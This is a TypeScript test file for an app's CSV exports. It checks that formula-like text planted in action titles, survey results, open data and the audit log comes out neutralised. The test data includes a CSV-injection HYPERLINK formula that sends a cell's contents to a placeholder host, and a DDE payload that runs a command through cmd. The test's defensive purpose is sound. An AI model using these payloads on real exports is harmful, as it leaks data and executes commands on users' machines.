import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { actions, campaigns, indicatorValues, resultSnapshots, users, workstreams } from "#db/schema";
import { parseCsvRecords } from "~/lib/csv";
import { signInCookie } from "../support/http";
import { startTestServer, type TestServer } from "../support/server";

/**
 * Every CSV export, downloaded over HTTP after formula-like text was put where people's input reaches it: no cell may
 * start with a character a spreadsheet would run (= + - @ tab CR) unless it is a plain number, and the planted text
 * must be there, neutralised, so the check cannot pass on a file that simply lost it.
 */
const FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquer")';
const AT = "@SUM(A1:A9)";
const PLUS = "+33 6 00 00 00 00";
const MINUS = "-1+cmd|' /C calc'!A0";

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
  const db = server.database.db;
  const action = db.select({ id: actions.id }).from(actions).get()!;
  db.update(actions).set({ title: FORMULA }).where(eq(actions.id, action.id)).run();
  const workstream = db.select({ id: workstreams.id }).from(workstreams).get()!;
  db.update(workstreams).set({ title: AT }).where(eq(workstreams.id, workstream.id)).run();
  const value = db.select().from(indicatorValues).get()!;
  db.update(indicatorValues).set({ dimension: PLUS }).where(and(eq(indicatorValues.indicatorId, value.indicatorId), eq(indicatorValues.period, value.period), eq(indicatorValues.dimension, value.dimension))).run();
  // The published results of segur-2024: a question label and a software name as they were frozen.
  const snapshot = db.select({ campaignId: resultSnapshots.campaignId, results: resultSnapshots.results }).from(resultSnapshots).innerJoin(campaigns, eq(campaigns.id, resultSnapshots.campaignId)).where(eq(campaigns.slug, "segur-2024")).get()!;
  const results = structuredClone(snapshot.results) as { items: { label: string; bySubject: { subject: { name: string } }[] }[] };
  results.items[0].label = FORMULA;
  const withSubject = results.items.find((i) => i.bySubject.length > 0)!;
  withSubject.bySubject[0].subject.name = AT;
  db.update(resultSnapshots).set({ results }).where(eq(resultSnapshots.campaignId, snapshot.campaignId)).run();
  db.update(users).set({ displayName: MINUS }).where(eq(users.email, "equipe@demo.sentinelle.fr")).run();
}, 60_000);
afterAll(() => server.close());

async function download(path: string, cookie?: string) {
  const response = await fetch(server.url + path, { headers: cookie ? { Cookie: cookie } : {} });
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
  const text = (await response.text()).replace(/^\uFEFF/, "");
  return parseCsvRecords(text, ";").flatMap((r) => r.cells);
}

function expectNeutralised(cells: string[], planted: string[]) {
  const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[-+]?\d+(?:[.,]\d+)?$/.test(c));
  expect(dangerous).toEqual([]);
  for (const value of planted) expect(cells.some((c) => c.includes(`'${value}`))).toBe(true);
}

describe("CSV exports neutralise formulas", () => {
  it("the action plan export", async () => {
    expectNeutralised(await download("/plan-action.csv"), [FORMULA, AT]);
  });

  it("the published survey results export", async () => {
    expectNeutralised(await download("/resultats/segur-2024/export.csv"), [FORMULA, AT]);
  });

  it("the open data export", async () => {
    expectNeutralised(await download("/avancement/donnees.csv"), [AT, PLUS]);
  });

  it("the audit log export", async () => {
    const team = await signInCookie(server.url, "equipe@demo.sentinelle.fr");
    // Signing in is an event of the team account, whose name is now formula-like.
    expectNeutralised(await download("/equipe/journal.csv", team), [MINUS]);
  });
});
